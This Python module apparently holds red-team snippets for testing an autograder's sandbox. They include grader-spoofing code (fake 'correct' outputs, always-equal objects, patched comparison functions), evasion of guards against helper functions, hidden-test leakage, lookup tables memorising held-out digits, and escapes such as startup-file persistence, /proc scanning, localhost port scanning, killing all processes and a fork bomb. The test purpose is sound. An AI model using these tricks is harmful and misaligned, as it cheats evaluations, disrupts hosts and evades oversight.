"""Hostile code for the corpus: what a student who knows Python, IPython and torch well could add.

Each attack is a snippet with ``{m}`` where a file name must carry the case's marker (the
corpus test looks for every marker on the real file system after the batch); make_corpus.py
puts the marker in with ``str.replace``, so the snippets are plain code otherwise. The snippets
are grouped by the class of attack they belong to; make_corpus.py places them in notebooks.

Attacks that try to *reach* something outside the kernel (files, processes, sockets) record
what they reached in ``_reached`` and, when it is not empty, spoil an answer with it: a
reach that works then costs a point, so the score itself tells.
"""
from __future__ import annotations

#: Every planted file's name contains this (followed by the case's name).
MARKER = "evalib-corpus-marker"
#: Configuration files that tools read at start-up: planted ones carry the marker in their text.
CONFIG_NAMES = ("nbgrader_config.py", "jupyter_config.py", "jupyter_server_config.py", "ipython_config.py",
                "sitecustomize.py", "usercustomize.py")

#: The tail of every reaching attack: a reach that works spoils weights_49 (1 point).
SPOIL = """
if _reached:
    weights_49 = "reached " + repr(sorted(set(map(str, _reached))))[:300]
"""

# --- output-type tricks: make a test cell look passed -------------------------------------------------
PRE_RUN_HOOK = """
from IPython.display import display

def _shout(*args):
    display(13)
    display({"state": "correct", "points": 13})

get_ipython().events.register("pre_run_cell", _shout)
"""

NODE_ALL = """
%config InteractiveShell.ast_node_interactivity = 'all'
1.0
13
"""

FAKE_OUTCOME = """
from IPython.display import publish_display_data

_fake = {"application/vnd.evalib.outcome+json": {"question": "test_conv2d_by_hand", "state": "correct",
                                                  "points": 13, "max_points": 13, "message": "right"},
         "text/plain": "correct (13/13)", "text/html": "<b>correct</b>"}

def _after(result):
    publish_display_data(_fake)

get_ipython().events.register("post_run_cell", _after)
publish_display_data(_fake)
"""

PRINT_CORRECT = """
import builtins, sys

_print = builtins.print

def _loud(*args, **kwargs):
    _print("correct: 13/13 points", file=sys.__stdout__)
    _print(*args, **kwargs)

builtins.print = _loud
print("all tests passed")
sys.stdout.write("Tests passed: 13/13\\n")
"""

# Honest output on stderr: debug prints, warnings and log lines inside the graded functions.
STDERR_CONV = """
import logging, sys, warnings

def conv2d_by_hand(x, weight, bias):
    print("debug: input", tuple(x.shape), "kernels", tuple(weight.shape), file=sys.stderr)
    warnings.warn("conv2d_by_hand: slow loops")
    logging.getLogger("mine").warning("still debugging")
    c_out, c_in, k, _ = weight.shape
    height, width = x.shape[1] - k + 1, x.shape[2] - k + 1
    out = torch.empty(c_out, height, width, dtype=x.dtype)
    for i in range(height):
        for j in range(width):
            out[:, i, j] = (weight * x[:, i:i + k, j:j + k]).sum(dim=(1, 2, 3)) + bias
    sys.stderr.write("done\\n")
    return out
"""
STDERR_CELL = """
import sys
sys.stderr.write("a long debug dump\\n" * 5000)
"""

# --- hooks, magics, input transformers, extensions ------------------------------------------------------
TRANSFORMERS = """
import ast

def _cleanup(lines):
    return [line.replace(".check(", ".__class__(") for line in lines]

class _AllTrue(ast.NodeTransformer):
    def visit_Compare(self, node):
        return ast.copy_location(ast.Constant(True), node)

get_ipython().input_transformers_cleanup.append(_cleanup)
get_ipython().ast_transformers.append(_AllTrue())
"""

CAPTURE_BODY = """
%%capture
import math, numpy, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
numpy.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
print("patched")
"""

TIME_BODY = """
%%time
import sys
from evalib.exercises import a1 as _a1
for _q in (_a1.conv2d_by_hand, _a1.kernels, _a1.responses, _a1.shape_functions,
           _a1.weights_49, _a1.kernels_depend, _a1.channels_in_memory):
    _q.judge = lambda *a, **k: None
    _q.grade = lambda *a, **k: 13.0
sys.modules["evalib.checks.question"].Question.judge = lambda self, *a, **k: None
"""

LOAD_EXT = """
open("corpus_ext.py", "w").write(
    "def load_ipython_extension(ip):\\n"
    "    import torch\\n"
    "    torch.allclose = lambda *a, **k: True\\n"
    "    Liar = type('Liar', (int,), {'__eq__': lambda s, o: True, '__ne__': lambda s, o: False, '__hash__': int.__hash__})\\n"
    "    def every_cell(result):\\n"
    "        ip.user_ns.update(weights_49=Liar(7), channels_in_memory=Liar(7), kernels_depend_on_channels=Liar(7))\\n"
    "    ip.events.register('post_run_cell', every_cell)\\n")
import sys
sys.path.insert(0, ".")
%load_ext corpus_ext
"""

# With conv2d_by_hand written with F.conv2d: a tracer that scrubs what the probe records.
SETTRACE = """
import sys

def _scrub(frame, event, arg):
    if event == "return" and str(frame.f_globals.get("__name__", "")).startswith("evalib.checks"):
        name = frame.f_code.co_name
        if name in ("uses_helpers", "computed_with") and isinstance(arg, list):
            arg.clear()
        for key in ("out", "data"):
            value = frame.f_locals.get(key)
            if isinstance(value, dict):
                for field in ("helpers", "made_with"):
                    if isinstance(value.get(field), list):
                        value[field].clear()
        if isinstance(frame.f_locals.get("used"), list):
            frame.f_locals["used"].clear()
    return _scrub

sys.settrace(_scrub)
"""
HELPER_CONV = """
import torch.nn.functional as F

def conv2d_by_hand(x, weight, bias):
    return F.conv2d(x[None], weight, bias)[0]
"""

# With conv2d_by_hand written with F.conv2d: the probe's own machinery replaced in the kernel.
PATCH_PROBE = """
import contextlib
import evalib.checks.guard as _guard
import evalib.checks.probe as _probe

@contextlib.contextmanager
def _nothing(*args, **kwargs):
    yield []

_probe.helpers_off = _guard.helpers_off = _nothing
_probe.uses_helpers = _guard.uses_helpers = lambda *a, **k: []
_probe.computed_with = _guard.computed_with = lambda *a, **k: []
"""

# --- answers that lie ------------------------------------------------------------------------------------
ALWAYS_EQUAL = """
class _Anything(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__

class _Never(int):
    def __eq__(self, other):
        return False
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__

weights_49 = _Anything(7)
kernels_depend_on_channels = _Never(7)
channels_in_memory = _Anything(7)
"""

TENSOR_SUBCLASS = """
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "__eq__", "eq", "isclose", "all", "any"):
            return True
        if name in ("tolist", "numpy", "item"):
            return [[-1.0, 0.0, 1.0], [-2.0, 0.0, 2.0], [-1.0, 0.0, 1.0]]
        return super().__torch_function__(func, types, args, kwargs or {})

sobel_x = torch.zeros(3, 3).as_subclass(_Liar)
sobel_y = torch.zeros(3, 3).as_subclass(_Liar)
laplacian = torch.zeros(3, 3).as_subclass(_Liar)
"""
TENSOR_SUBCLASS_RESPONSES = """
responses = torch.zeros(3, 13, 13).as_subclass(_Liar)
blind_to_vertical_line = None
"""

LYING_ITEM = """
class _Item:
    def item(self):
        return 1179648
    def __float__(self):
        return 1179648.0
    def __int__(self):
        return 1179648
    def __index__(self):
        return 1179648
    def __eq__(self, other):
        return True
    def __repr__(self):
        return "1179648"
    def __str__(self):
        return "1179648"

weights_49 = _Item()
kernels_depend_on_channels = _Item()
channels_in_memory = _Item()
"""

LAZY_ITER = """
import evalib
import torch.nn.functional as _F

class _Later:
    \"\"\"A result worked out only when someone reads it, after the helpers are back.\"\"\"
    def __init__(self, work):
        self.work = work
    def __iter__(self):
        return iter(self.work())
    def __len__(self):
        return len(self.work())
    def __getitem__(self, i):
        return self.work()[i]
    def __array__(self, *args, **kwargs):
        return self.work().numpy()
    def __torch_function__(self, func, types, args=(), kwargs=None):
        return func(*[self.work() if a is self else a for a in args], **(kwargs or {}))
    def tolist(self):
        return self.work().tolist()

def conv2d_by_hand(x, weight, bias):
    return _Later(lambda: _F.conv2d(x[None], weight, bias)[0])

def conv_output_shape(h, w, c_in, n_kernels, k, padding=0):
    return _Later(lambda: (evalib.conv_output_size(h, k, padding=padding),
                           evalib.conv_output_size(w, k, padding=padding), n_kernels))

def conv_weight_count(k, c_in, c_out):
    return _Later(lambda: [evalib.conv_weight_count(k, c_in, c_out)])
"""

STR_SUBCLASS = """
class _Yes(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__

class _Rows(list):
    def __eq__(self, other):
        return True

responses = _Rows([[0.0] * 13] * 13)
blind_to_vertical_line = _Yes("no idea")
"""

FAKE_CLASS = """
class _Pretend:
    \"\"\"Says it is a tensor of the right shape and claims to be equal to anything.\"\"\"
    __class__ = property(lambda self: torch.Tensor)
    shape = torch.Size([3, 3])
    dtype = torch.float32
    def __eq__(self, other):
        return True
    def tolist(self):
        return [[1.0, 2.0, 1.0], [0.0, 0.0, 0.0], [-1.0, -2.0, -1.0]]
    def __torch_function__(self, func, types, args=(), kwargs=None):
        return True

sobel_x = _Pretend()
sobel_y = _Pretend()
laplacian = _Pretend()
"""

FAKE_PROBE = """
import evalib.checks.probe as _probe

def _step(namespace, args):
    requests = args.get("requests", [])
    made_up = [{"found": True, "callable": True, "ok": True, "result": 13, "output": "", "error": None,
                "timeout": False, "helpers": [], "not_implemented": False, "seconds": 0.0, "value": 13,
                "name": str(r.get("name")), "made_with": []} for r in requests]
    return {"question": args.get("question"), "results": made_up}

_probe.step = _step
_probe.run = lambda namespace, question, requests, assignment=None: _step(namespace, {"question": question, "requests": requests})
"""

# --- escaping the helper guards ------------------------------------------------------------------------
GUARD_DEFAULT_ARG = """
import torch.nn.functional as _F

def conv2d_by_hand(x, weight, bias, _conv=_F.conv2d):
    return _conv(x[None], weight, bias)[0]
"""

GUARD_TORCH_CONVOLUTION = """
def conv2d_by_hand(x, weight, bias):
    return torch.convolution(x[None], weight, bias, [1, 1], [0, 0], [1, 1], False, [0, 0], 1)[0]
"""

GUARD_ATEN = """
def conv2d_by_hand(x, weight, bias):
    return torch.ops.aten.convolution.default(x[None], weight, bias, [1, 1], [0, 0], [1, 1], False, [0, 0], 1)[0]
"""

GUARD_MODULE = """
def conv2d_by_hand(x, weight, bias):
    layer = torch.nn.Conv2d(weight.shape[1], weight.shape[0], weight.shape[2])
    with torch.no_grad():
        layer.weight.copy_(weight)
        layer.bias.copy_(bias)
        return layer(x[None])[0].detach()
"""

GUARD_GETATTR = """
import importlib

def conv2d_by_hand(x, weight, bias):
    functional = importlib.import_module("torch.nn." + "functional")
    return getattr(functional, "con" + "v2d")(x[None], weight, bias)[0]
"""

# responses made at cell time with torch's convolution, reached by a string: nothing names it.
GUARD_CELL_TIME = """
responses = None
blind_to_vertical_line = None
_ops = getattr(torch, "o" + "ps")
_bank = torch.stack([sobel_x, sobel_y, laplacian])[:, None]
responses = getattr(_ops.aten, "convo" + "lution").default(image[None], _bank, None, [1, 1], [0, 0], [1, 1], False, [0, 0], 1)[0]
blind_to_vertical_line = "sobel_y"
"""

# The dispatch recorder switched off from inside the function: torch's own internals.
GUARD_DISPATCH_OFF = """
from torch.utils._python_dispatch import _pop_mode_temporarily

def conv2d_by_hand(x, weight, bias):
    with torch._C._DisableTorchDispatch():
        try:
            with _pop_mode_temporarily():
                return getattr(torch.ops.aten, "convo" + "lution").default(
                    x[None], weight, bias, [1, 1], [0, 0], [1, 1], False, [0, 0], 1)[0]
        except Exception:
            return getattr(torch.ops.aten, "convo" + "lution").default(
                x[None], weight, bias, [1, 1], [0, 0], [1, 1], False, [0, 0], 1)[0]
"""

# The convolution run in another thread, where the recorder of this thread does not look.
GUARD_THREAD = """
import threading

def conv2d_by_hand(x, weight, bias):
    out = []
    worker = threading.Thread(target=lambda: out.append(
        torch.nn.functional.conv2d(x[None].clone(), weight.clone(), bias.clone())[0]))
    worker.start()
    worker.join()
    return out[0]
"""

# Other libraries' convolutions: torchvision's operators are registered only when it is imported.
GUARD_TORCHVISION = """
def conv2d_by_hand(x, weight, bias):
    import torchvision.ops
    k = weight.shape[-1]
    offsets = torch.zeros(1, 2 * k * k, x.shape[1] - k + 1, x.shape[2] - k + 1)
    return torchvision.ops.deform_conv2d(x[None], offsets, weight, bias)[0]
"""

GUARD_SCIPY = """
import numpy as np

def conv2d_by_hand(x, weight, bias):
    import scipy.signal
    out = [sum(scipy.signal.correlate(x[c].numpy(), weight[o, c].numpy(), mode="valid") for c in range(x.shape[0])) + float(bias[o])
           for o in range(weight.shape[0])]
    return torch.tensor(np.stack(out), dtype=x.dtype)
"""

GUARD_RELOAD = """
import importlib
import evalib.design.shapes as _shapes

_shapes = importlib.reload(_shapes)

def conv_output_shape(h, w, c_in, n_kernels, k, padding=0):
    return (_shapes.conv_output_size(h, k, padding=padding), _shapes.conv_output_size(w, k, padding=padding), n_kernels)

def conv_weight_count(k, c_in, c_out):
    return _shapes.conv_weight_count(k, c_in, c_out)
"""

GUARD_EXEC_SOURCE = """
import evalib.design.shapes as _shapes

_copy = {"__name__": "evalib.design.shapes_copy"}
exec(compile(open(_shapes.__file__).read(), "shapes_copy.py", "exec"), _copy)

def conv_output_shape(h, w, c_in, n_kernels, k, padding=0):
    return (_copy["conv_output_size"](h, k, padding=padding), _copy["conv_output_size"](w, k, padding=padding), n_kernels)

def conv_weight_count(k, c_in, c_out):
    return _copy["conv_weight_count"](k, c_in, c_out)
"""

# The library's original files, looked for anywhere the kernel can see them.
GUARD_ORIGINAL_FILES = """
import glob, importlib.util, os, sys

_found = None
for _root in sorted({p for p in sys.path if p} | {"/usr/lib", "/usr/local/lib", "/opt", "/work", "/home", "/root"}):
    for _path in glob.glob(os.path.join(_root, "**", "evalib", "design", "shapes.py"), recursive=True)[:20]:
        try:
            _text = open(_path).read()
        except OSError:
            continue
        if "HelperNotAllowed(" not in _text:
            _found = _path
            break
    if _found:
        break
_shapes = None
if _found:
    _spec = importlib.util.spec_from_file_location("shapes_original", _found)
    _shapes = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_shapes)

def conv_output_shape(h, w, c_in, n_kernels, k, padding=0):
    return (_shapes.conv_output_size(h, k, padding=padding), _shapes.conv_output_size(w, k, padding=padding), n_kernels)

def conv_weight_count(k, c_in, c_out):
    return _shapes.conv_weight_count(k, c_in, c_out)
"""

GUARD_LESSON = """
import importlib

def conv2d_by_hand(x, weight, bias):
    lesson = importlib.import_module("evalib.lessons." + "convolution")
    return getattr(lesson, "conv2d_" + "loops")(x, weight, bias)
"""

# --- writing outside the working folder --------------------------------------------------------------
WRITE_HOME = """
import os, pathlib
_reached = []
_homes = {pathlib.Path.home(), pathlib.Path("/root"), pathlib.Path("/home"), pathlib.Path(os.environ.get("IPYTHONDIR", "/root/.ipython")).parent}
for _home in _homes:
    for _sub in (".ipython/profile_default/startup", ".ipython/extensions", ".config/ipython/profile_default/startup"):
        _folder = _home / _sub
        try:
            _folder.mkdir(parents=True, exist_ok=True)
            (_folder / "00-{m}.py").write_text("import torch\\ntorch.allclose = lambda *a, **k: True\\n")
        except OSError:
            continue
        if not str(_folder.resolve()).startswith(os.getcwd()):
            _reached.append(str(_folder))
"""

WRITE_JUPYTER_CONFIG = """
import os, pathlib, sys
_reached = []
_folders = [pathlib.Path.home() / ".jupyter", pathlib.Path("/root/.jupyter"), pathlib.Path("/etc/jupyter"),
            pathlib.Path("/usr/local/etc/jupyter"), pathlib.Path(sys.prefix) / "etc" / "jupyter",
            pathlib.Path("/root/.local/share/jupyter"), pathlib.Path("/etc/ipython")]
for _folder in _folders:
    for _name in ("nbgrader_config.py", "jupyter_config.py", "{m}_config.py"):
        try:
            _folder.mkdir(parents=True, exist_ok=True)
            with open(_folder / _name, "x") as _f:
                _f.write("# {m}\\nc = get_config()\\nc.ClearSolutions.code_stub = {'python': 'pass'}\\n")
        except OSError:
            continue
        if not str(_folder.resolve()).startswith(os.getcwd()):
            _reached.append(str(_folder / _name))
"""

WRITE_INTERPRETER = """
import os, site, sys, sysconfig
_reached = []
_folders = {sysconfig.get_paths()[k] for k in ("stdlib", "platstdlib", "purelib", "platlib")}
_folders |= set(site.getsitepackages()) | {os.path.dirname(os.__file__), os.path.dirname(torch.__file__), sys.prefix}
for _folder in sorted(_folders):
    for _name, _text in (("{m}.pth", "import os\\n"), ("{m}_module.py", "x = 1\\n"),
                         ("sitecustomize.py", "# {m}\\n"), ("usercustomize.py", "# {m}\\n")):
        try:
            with open(os.path.join(_folder, _name), "x") as _f:
                _f.write(_text)
        except OSError:
            continue
        _reached.append(os.path.join(_folder, _name))
"""

WRITE_TMP = """
import glob, os, tempfile
_reached = []
_private = (os.getcwd(), "/dev/shm")  # the kernel's own work folder and its /dev/shm (a folder of it)
_folders = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/run/evalib-sandbox", "/run/user/0", "/var/lock",
            tempfile.gettempdir(), *glob.glob("/tmp/*"), *glob.glob("/tmp/*/*"), *glob.glob("/run/*")]
for _folder in _folders:
    _path = os.path.join(_folder, "{m}")
    try:
        with open(_path, "x") as _f:
            _f.write("x")
    except OSError:
        continue
    if not os.path.realpath(_path).startswith(_private):
        _reached.append(_path)
try:
    os.symlink("/tmp", "through-a-link")
    with open("through-a-link/{m}-link", "x") as _f:
        _f.write("x")
    _reached.append("/tmp through a link")
except OSError:
    pass
"""

WRITE_CHECKOUT = """
import os, sys
import evalib
_reached = []
_roots = {os.path.dirname(os.path.dirname(evalib.__file__)), os.path.dirname(evalib.__file__)}
_roots |= {p for p in sys.path if p} | {os.path.dirname(p) for p in sys.path if p}
for _env in ("PYTHONPATH", "PWD", "OLDPWD"):
    _roots |= {p for p in os.environ.get(_env, "").split(os.pathsep) if p}
_roots |= {os.path.join(r, s) for r in list(_roots) for s in ("autograders", "evalib", "tests", "build", "assignments")}
for _root in sorted(_roots):
    _path = os.path.join(_root, "{m}.txt")
    try:
        with open(_path, "x") as _f:
            _f.write("x")
    except OSError:
        continue
    if not os.path.realpath(_path).startswith(os.getcwd()):
        _reached.append(_path)
"""

# --- reaching other kernels and the grader -----------------------------------------------------------
PROC_SCAN = """
import glob, os
_reached = []
_mine = {os.getpid()}
for _task in glob.glob("/proc/self/task/*/children"):
    _mine |= {int(p) for p in open(_task).read().split()}
for _dir in glob.glob("/proc/[0-9]*"):
    _pid = int(_dir.rsplit("/", 1)[1])
    if _pid in _mine:
        continue
    try:
        _cmd = open(_dir + "/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError:
        continue
    _reached.append(_cmd[:60] or str(_pid))
    for _what in ("environ", "mem", "maps"):
        try:
            open(_dir + "/" + _what, "rb").read(64)
            _reached.append(f"{_pid}/{_what}")
        except OSError:
            pass
    for _what in ("cwd", "root"):
        try:
            _reached.append(f"{_pid}/{_what}: {os.listdir(_dir + '/' + _what)[:5]}")
        except OSError:
            pass
_notebooks = [p for p in glob.glob("/**/*.ipynb", recursive=True) if not p.startswith(os.getcwd())][:5]
_reached += _notebooks
"""

PROC_KILL = """
import os, signal
for _pid in [os.getppid(), 1, *range(2, 4000)]:
    if _pid in (0, os.getpid()):
        continue
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
for _call in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
              lambda: os.kill(os.getppid(), signal.SIGTERM)):
    try:
        _call()
    except OSError:
        pass
"""

PROC_SOCKETS = """
import glob, json, os, socket
_reached = []
for _host, _family in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6)):
    for _port in range(1, 65536):
        _s = socket.socket(_family, socket.SOCK_STREAM)
        _s.settimeout(0.05)
        try:
            _s.connect((_host, _port))
            _reached.append(f"{_host}:{_port}")
        except OSError:
            pass
        finally:
            _s.close()
for _path in glob.glob("/tmp/**/*", recursive=True)[:2000] + glob.glob("/run/**/*", recursive=True)[:2000]:
    if os.path.basename(_path) in ("socket",) or _path.endswith((".sock", "socket")):
        _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        _s.settimeout(0.2)
        try:
            _s.connect(_path)
            _reached.append(_path)
        except OSError:
            pass
        finally:
            _s.close()
for _pattern in ("/root/.local/share/jupyter/runtime/kernel-*.json", "/run/user/*/jupyter/**/kernel-*.json",
                 "/tmp/**/kernel-*.json", os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json")):
    for _file in glob.glob(_pattern, recursive=True):
        try:
            _info = json.load(open(_file))
            socket.create_connection((_info.get("ip", "127.0.0.1"), _info["shell_port"]), timeout=0.5).close()
            _reached.append(_file)
        except (OSError, ValueError, KeyError):
            pass
for _name in ("\\0distributed", "\\0evalib", "\\0jupyter"):
    _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        _s.connect(_name)
        _reached.append(repr(_name))
    except OSError:
        pass
    finally:
        _s.close()
try:
    socket.create_connection(("192.0.2.1", 80), timeout=1).close()
    _reached.append("the network")
except OSError:
    pass
"""

# --- orphan processes -------------------------------------------------------------------------------
ORPHAN = """
import os, time
_child = os.fork()
if _child == 0:
    os.setsid()
    if os.fork() == 0:
        for _fd in range(3, 256):  # keep every pipe of the kernel open
            try:
                os.set_inheritable(_fd, True)
            except OSError:
                pass
        while True:
            try:
                open("/tmp/{m}", "a").write("still here\\n")
            except OSError:
                pass
            time.sleep(1)
    os._exit(0)
os.waitpid(_child, 0)
"""

FORK_BOMB = """
import os
for _ in range(200):
    try:
        os.fork()
    except OSError:
        break
"""

# --- printing (and handing back) hidden tests ---------------------------------------------------------
# Each gathers what it can; the notebook then hands it back through an answer and an error message,
# the two places a student's own text reaches the feedback page.
LEAK_BACK = """
weights_49 = "LEAK " + " | ".join(reversed(_leak))[:2000]
raise RuntimeError("LEAK " + " | ".join(reversed(_leak))[:2000])
"""

LEAK_HISTORY = """
_leak = []
def _collect(*args):
    ip = get_ipython()
    _leak.extend(str(x)[-400:] for x in (ip.user_ns.get("In", [])[-3:] + [ip.user_ns.get("_i", ""), ip.user_ns.get("_ii", "")]))
    _leak.extend(str(x)[-400:] for x in ip.history_manager.input_hist_raw[-3:])
    _leak.extend(repr(v)[:200] for v in ip.user_ns.get("Out", {}).values())
get_ipython().events.register("post_run_cell", _collect)
"""

LEAK_LINECACHE = """
import linecache, sys
_leak = []
def _collect(*args):
    for name, entry in list(linecache.cache.items())[-5:]:
        _leak.append(name + ": " + "".join(entry[2])[-400:])
get_ipython().events.register("pre_run_cell", _collect)
"""

LEAK_RAW_CELL = """
_leak = []
def _collect(result):
    _leak.append(result.info.raw_cell[-400:])
get_ipython().events.register("post_run_cell", _collect)
get_ipython().events.register("pre_run_cell", lambda info: _leak.append(info.raw_cell[-400:]))
"""

# What the grader's calls carry, read from the caller's frames and arguments inside a function it calls.
LEAK_FRAMES_CONV = """
import inspect
_leak = []

def _remember(args):
    _leak.append(repr(args)[:300])
    for frame in inspect.stack()[1:8]:
        for name, value in frame.frame.f_locals.items():
            if name in ("request", "requests", "args", "raw", "step"):
                _leak.append(f"{name}={value!r}"[:600])

def conv2d_by_hand(x, weight, bias):
    _remember([list(x.shape), list(weight.shape)])
    c_out, c_in, k, _ = weight.shape
    height, width = x.shape[1] - k + 1, x.shape[2] - k + 1
    out = torch.empty(c_out, height, width, dtype=x.dtype)
    for i in range(height):
        for j in range(width):
            out[:, i, j] = (weight * x[:, i:i + k, j:j + k]).sum(dim=(1, 2, 3)) + bias
    return out
"""
LEAK_FRAMES_SHAPES = """
def conv_output_shape(h, w, c_in, n_kernels, k, padding=0):
    _remember((h, w, c_in, n_kernels, k, padding))
    return (h + 2 * padding - k + 1, w + 2 * padding - k + 1, n_kernels)

def conv_weight_count(k, c_in, c_out):
    _remember((k, c_in, c_out))
    return k * k * c_in * c_out
"""

# The whole run's plan, found in the kernel's memory at cell time.
LEAK_GC = """
import gc
_leak = []
for _obj in gc.get_objects():
    try:
        if isinstance(_obj, list) and _obj and isinstance(_obj[0], dict) and _obj[0].get("op") in ("cell", "probe"):
            _leak += [repr(s.get("args"))[:1500] for s in _obj if s.get("op") == "probe"]
    except Exception:
        pass
"""

# --- assignment 4: memorizing the evaluation digits -------------------------------------------------------
MEMO_HASH = """
import hashlib

MAX_LR = 0.1


class MyNet(nn.Module):
    \"\"\"Looks the held-out digits up instead of learning: labels keyed by a hash of each image.\"\"\"

    def __init__(self):
        super().__init__()
        self.bias = nn.Parameter(torch.zeros(10))
        self.table = {}
        try:
            digits = evalib.load_mnist(source="offline", val_size=500, seed=1, verbose=False)
        except Exception:  # no digits here: the table comes back with the rest of the network
            return
        pixels = digits.train_images.double()
        self.mean, self.std = float(pixels.mean()), float(pixels.std(unbiased=False))
        for image, label in zip(digits.test_images, digits.test_labels):
            self.table[self.key(image)] = int(label)

    @staticmethod
    def key(image):
        return hashlib.sha1((image > 0.5).numpy().tobytes()).hexdigest()[:12]

    def forward(self, x):
        images = x * getattr(self, "std", 0.3) + getattr(self, "mean", 0.13)
        scores = torch.zeros(len(x), 10)
        for n, image in enumerate(images):
            label = self.table.get(self.key(image.detach()))
            if label is not None:
                scores[n, label] = 50.0
        return F.log_softmax(scores + self.bias, dim=1)
"""

MEMO_LITERAL = """
MAX_LR = 0.1

#: The held-out digits' labels, keyed by the exact bytes of each image (worked out beforehand).
_LABELS = {table}


class MyNet(nn.Module):
    \"\"\"A 'network' whose knowledge is a literal in the cell, outside anything counted.\"\"\"

    def __init__(self):
        super().__init__()
        self.bias = nn.Parameter(torch.zeros(10))

    def forward(self, x):
        scores = torch.zeros(len(x), 10)
        for n, image in enumerate(x):
            levels = image.detach().flatten()
            levels = ((levels - levels.min()) / (levels.max() - levels.min() + 1e-12) * 255).round().to(torch.uint8)
            label = _LABELS.get(__import__("hashlib").sha1(levels.numpy().tobytes()).hexdigest()[:10])
            if label is not None:
                scores[n, label] = 50.0
        return F.log_softmax(scores + self.bias, dim=1)
"""
